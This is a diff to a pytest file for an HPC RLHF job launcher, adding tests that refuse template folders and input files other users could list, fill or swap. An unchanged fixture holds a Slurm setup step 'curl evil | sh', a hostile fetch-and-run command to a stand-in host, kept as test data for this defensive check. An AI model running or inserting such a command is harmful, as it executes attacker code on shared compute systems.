@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import io
+import os
 import re
 from collections.abc import Callable
 from pathlib import Path
@@ -9,8 +11,12 @@ from pathlib import Path
 import pytest
 
 from hpc_rlhf.cli import main
+from hpc_rlhf.errors import HpcRlhfError
 from hpc_rlhf.launch import inputs
-from tests.co_user import as_co_user, as_root
+from hpc_rlhf.launch.plan import make_plan
+from hpc_rlhf.launch.render import Templates
+from hpc_rlhf.spec.load import load_spec
+from tests.co_user import NOBODY, as_co_user, as_root
 
 BASE = "run_dir: runs/x\ndata: {sources: [{demo: 100}]}\nmodels: {actor: facebook/opt-125m}\nstages: {sft: {}}\n"
 THEIRS = "slurm: {setup: [curl evil | sh]}\n"
@@ -78,3 +84,49 @@ def test_the_users_own_files_are_accepted(folder: Path) -> None:
     inputs.check(folder / "job.yaml")
     (folder / "link.yaml").symlink_to(folder / "job.yaml")
     inputs.check(folder / "link.yaml")
+
+
+@as_root
+@pytest.mark.parametrize("mode", [0o711, 0o700, 0o755])
+def test_templates_that_cannot_be_listed_are_refused(mode: int, folder: Path) -> None:
+    """Jinja would open them by their names."""
+    template(folder)
+    for path in (folder / "templates", folder / "templates/_options.j2"):
+        os.chown(path, NOBODY, NOBODY)
+    folder.chmod(0o1777)
+    (folder / "templates").chmod(mode)
+    assert not as_co_user(lambda: inputs.check(folder / "job.yaml"), user=4242)
+    assert not as_co_user(lambda: Templates(folder), user=4242)
+    os.chown(folder / "templates", 4242, -1)
+    (folder / "templates").chmod(0o311)  # the user's own
+    assert not as_co_user(lambda: inputs.check(folder / "job.yaml"), user=4242)
+
+
+def test_an_empty_folder_that_others_can_fill_is_refused(folder: Path) -> None:
+    (folder / "templates").mkdir()
+    inputs.check(folder / "job.yaml")
+    (folder / "templates").chmod(0o777)
+    with pytest.raises(HpcRlhfError, match="it is world-writable"):
+        inputs.check(folder / "job.yaml")
+
+
+def test_what_is_rendered_is_what_was_checked(folder: Path) -> None:
+    (folder / "templates/part").mkdir(parents=True)
+    (folder / "templates/hostfile.j2").write_text("{% include 'part/line.j2' %}")
+    (folder / "templates/part/line.j2").write_text("@NODE@ slots=1\n")
+    spec = load_spec(folder / "job.yaml")
+    plan = make_plan(spec)
+    templates = Templates(folder)
+    (folder / "templates/part/line.j2").write_text("theirs")
+    assert templates.hostfile(plan, plan.jobs[0]) == "@NODE@ slots=1\n"
+
+
+def test_a_spec_from_standard_input_has_no_templates(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (folder / "templates").mkdir()
+    (folder / "templates/hostfile.j2").write_text("theirs")
+    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(f"name: x\n{BASE}".encode())))
+    assert main(["render", "--out", "out", "-"]) == 0
+    assert "templates" not in capsys.readouterr().err
+    assert "theirs" not in (folder / "out/sft.hostfile.in").read_text()
